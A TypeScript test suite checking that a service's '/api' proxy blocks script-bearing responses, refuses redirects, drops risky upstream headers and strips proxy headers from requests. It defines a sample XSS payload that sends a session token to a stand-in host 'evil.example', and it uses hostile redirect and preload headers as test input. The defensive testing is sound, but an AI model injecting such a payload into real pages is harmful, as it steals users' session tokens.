import { type IncomingHttpHeaders, request as send } from 'node:http'
import { describe, expect, it } from 'vitest'
import type { Service } from '../../admin/service/startService.ts'
import { startTestService } from '../../admin/service/testing/startTestService.ts'
import { startForeigner } from '../../admin/service/testing/startForeigner.ts'

interface Given {
  readonly status?: number
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

const ATTACK = '<script>fetch("//evil.example/?"+sessionStorage["playbill.token"])</script>'
const SEAL = {
  'content-security-policy': "default-src 'none'; sandbox",
  'cross-origin-resource-policy': 'same-origin',
  'x-content-type-options': 'nosniff',
}

/**
 * The same platform, once behind the proxy and once as the demonstration: the rules under `/api` are the same for both.
 */
const ways: readonly (readonly [string, (given: Given) => Promise<Service>])[] = [
  [
    'passed on',
    async ({ status = 200, headers = {}, body = '' }) => {
      const url = await startForeigner(
        (request, response) => void request.resume().on('end', () => response.writeHead(status, headers).end(body)),
      )
      return startTestService({ environment: { PLATFORM_URL: url } })
    },
  ],
  [
    'of the demonstration',
    ({ status = 200, headers = {}, body = '' }) =>
      startTestService({
        demonstration: () => async () => new Response(body === '' ? null : body, { status, headers }),
      }),
  ],
]

const ask = (service: Service, init: RequestInit = {}): Promise<Response> =>
  fetch(`${service.publicUrl}/api/balance`, { redirect: 'manual', ...init })

describe.each(ways)('an answer under /api %s', (_, start) => {
  it.each([
    'text/html',
    'text/html; charset=utf-8',
    'TEXT/HTML',
    'application/xhtml+xml',
    'image/svg+xml',
    'text/xml',
    'text/javascript',
    'text/plain',
    'application/octet-stream',
    '',
  ])('of the type "%s" is not passed on', async (type) => {
    const service = await start({ headers: { 'content-type': type }, body: ATTACK })
    const answer = await ask(service)
    expect(answer.status).toBe(502)
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(await answer.text()).not.toContain('script')
    expect(Object.fromEntries(answer.headers)).toMatchObject(SEAL)
  })

  it('keeps the status of a failure, and is not an envelope that looks like a refusal', async () => {
    const answer = await ask(await start({ status: 403, headers: { 'content-type': 'text/html' }, body: ATTACK }))
    expect(answer.status).toBe(403)
    expect(await answer.json()).toEqual({
      message: 'The platform answered with something that is neither JSON nor a picture.',
      data: null,
    })
  })

  it('does not redirect', async () => {
    const answer = await ask(
      await start({
        status: 302,
        headers: { location: 'https://evil.example/', 'content-type': 'application/json' },
        body: '{}',
      }),
    )
    expect([answer.status, answer.headers.get('location')]).toEqual([502, null])
    expect(await answer.json()).toEqual({
      message: 'The platform answered with a redirect, which is not followed.',
      data: null,
    })
  })

  it.each(['application/json', 'application/json; charset=utf-8', 'image/png', 'image/webp'])(
    'of the type "%s" is passed on unchanged, sealed',
    async (type) => {
      const answer = await ask(await start({ headers: { 'content-type': type }, body: ATTACK }))
      expect([answer.status, answer.headers.get('content-type'), await answer.text()]).toEqual([200, type, ATTACK])
      expect(Object.fromEntries(answer.headers)).toMatchObject({ ...SEAL, 'cache-control': 'no-store' })
    },
  )

  it('drops headers that would speak for this origin', async () => {
    const headers = {
      'content-type': 'application/json',
      'content-security-policy': "default-src * 'unsafe-inline'",
      'access-control-allow-origin': '*',
      'clear-site-data': '"*"',
      'service-worker-allowed': '/',
      refresh: '0;url=https://evil.example',
      link: '<https://evil.example/x.js>; rel=preload; as=script',
      'set-cookie': 'tracker=1',
      'strict-transport-security': 'max-age=0',
      'x-content-type-options': 'sniff',
      'x-platform-time': '2026-03-02T05:00:00Z',
      'retry-after': '9',
    }
    const answer = await ask(await start({ headers, body: '{}' }))
    const allowed = [
      'cache-control',
      'connection',
      'content-length',
      'content-type',
      'date',
      'keep-alive',
      'retry-after',
      'transfer-encoding',
      'x-demonstration',
      'x-platform-time',
    ]
    expect([...answer.headers.keys()].filter((name) => !allowed.includes(name)).toSorted()).toEqual(
      Object.keys(SEAL).toSorted(),
    )
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      ...SEAL,
      'retry-after': '9',
      'x-platform-time': '2026-03-02T05:00:00Z',
    })
  })

  it('is sealed however the call goes wrong', async () => {
    const service = await start({ headers: { 'content-type': 'application/json' }, body: '{}' })
    const wrong: readonly (readonly [string, RequestInit])[] = [
      ['/api/x', { method: 'OPTIONS' }],
      ['/api/x', { method: 'PUT', body: '{}', headers: { 'content-type': 'application/json' } }],
      ['/api/x', { method: 'HEAD' }],
      ['/api/x', { method: 'POST', body: new Uint8Array(6 * 1024 * 1024) }],
      ['/api', {}],
      ['/%61pi/x', {}],
      ['/api/%2e%2e%2fx', {}],
    ]
    for (const [path, init] of wrong) {
      const answer = await fetch(`${service.publicUrl}${path}`, init)
      expect([path, init.method, Object.fromEntries(answer.headers)]).toMatchObject([path, init.method, SEAL])
    }
  })
})

describe('a call that is passed on', () => {
  it('sends the platform only what the call needs, and nothing that looks like a header of a proxy', async () => {
    const seen: IncomingHttpHeaders[] = []
    const url = await startForeigner((request, response) => {
      seen.push(request.headers)
      request.resume().on('end', () => response.writeHead(200, { 'content-type': 'application/json' }).end('{}'))
    })
    const service = await startTestService({ environment: { PLATFORM_URL: url } })
    const told = {
      authorization: 'Bearer t',
      token: 't',
      lang: 'kor',
      'idempotency-key': 'k',
      'content-type': 'application/json',
      accept: 'application/json',
    }
    const untold = Object.fromEntries(
      [
        'cookie',
        'forwarded',
        'true-client-ip',
        'cf-connecting-ip',
        'x-real-ip',
        'x-client-ip',
        'x-forwarded-for',
        'x-forwarded-host',
        'x-forwarded-proto',
        'x-http-method-override',
        'x-original-url',
        'x-rewrite-url',
        'via',
        'origin',
        'referer',
        'user-agent',
        'x-anything',
      ].map((name) => [name, '203.0.113.9']),
    )
    await new Promise((resolve, reject) => {
      send(
        `${service.publicUrl}/api/balance`,
        { method: 'POST', agent: false, headers: { ...untold, ...told } },
        (response) => response.resume().on('end', resolve),
      )
        .on('error', reject)
        .end('{}')
    })
    const [
      {
        host,
        connection: _,
        'content-length': length,
        'transfer-encoding': chunked,
        'x-forwarded-for': from,
        ...rest
      } = {},
    ] = seen
    expect(rest).toEqual(told)
    expect([host, length ?? chunked !== undefined]).toEqual([new URL(url).host, expect.anything()])
    expect(from).toBe('127.0.0.1')
  })
})
